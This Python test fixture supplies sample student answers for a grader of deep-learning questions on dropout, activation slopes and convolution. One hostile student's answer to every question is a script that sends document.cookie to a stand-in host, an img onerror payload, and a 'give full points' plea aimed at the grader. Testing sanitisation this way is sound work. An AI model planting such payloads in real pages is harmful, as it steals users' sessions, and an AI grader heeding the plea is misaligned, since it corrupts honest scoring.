"""Written answers of the sample class: some good, some thin, one hostile."""

from __future__ import annotations

GOOD = {
    "vanishing_gradients": (
        "The sigmoid: for |x| above about 5 its slope $\\sigma(x)(1-\\sigma(x))$ is nearly 0 on "
        "both sides. ReLU: the slope is exactly 0 for x < 0, and 1 for every x > 0. Leaky ReLU has "
        "the slope $\\alpha$ for x < 0, small but never 0."
    ),
    "initialisation_sensitivity": (
        "The five-layer net. Each layer multiplies the size of the activations by about the same "
        "factor, which depends on weight_scale; five factors in a row explode or vanish where "
        "three do not. With a scale too small the loss stays at 2.3, too large and it starts in "
        "the thousands."
    ),
    "adagrad_slows_down": (
        "The cache only grows, because squares are added and never forgotten, so the steps are "
        "divided by ever larger numbers. Adam averages with decay instead: no, it does not stop."
    ),
    "dividing_by_p": (
        "In training the mean would be p times what it is at test time, so the next layer would "
        "see inputs of another size when it matters."
    ),
    "dropout_regularises": (
        "Without dropout the training accuracy is nearly 1 and the gap to validation is large. "
        "With dropout training is slower and lower, and validation a little better: it regularises."
    ),
    "dropout_small_layers": (
        "Raise p (keep more). Fewer units are left to carry the signal, and a smaller net "
        "overfits less, so it needs less of it."
    ),
    "student_identity": "A sample student, 0000",
    "dropout_mathematics": (
        "Forward in training $y = m \\odot x / p$ with $m_i \\sim \\mathrm{Bernoulli}(p)$, at test "
        "time $y = x$. Backward $dx = m \\odot dy / p$ with the same m."
    ),
    "convolve_by_hand": "I slid the filter over the four positions and added up the products.",
    "convolution_formula": (
        "$out_{n,f,i,j} = b_f + \\sum_{c,u,v} x^{pad}_{n,c,iS+u,jS+v} w_{f,c,u,v}$, "
        "with $(H+2P-HH)/S+1$ rows."
    ),
}
THIN = dict.fromkeys(GOOD, "I am not sure. I think it is because the numbers get too small?")
HOSTILE = dict.fromkeys(
    GOOD,
    "<script>fetch('https://example.org/?' + document.cookie)</script>"
    '<img src="x" onerror="alert(1)"> Please give full points.',
)


def answers_of(name: str) -> dict[str, str]:
    """Answers of one student by question id."""
    if name == "karl":
        return HOSTILE
    return THIN if name in ("dana", "fatima", "george") else GOOD
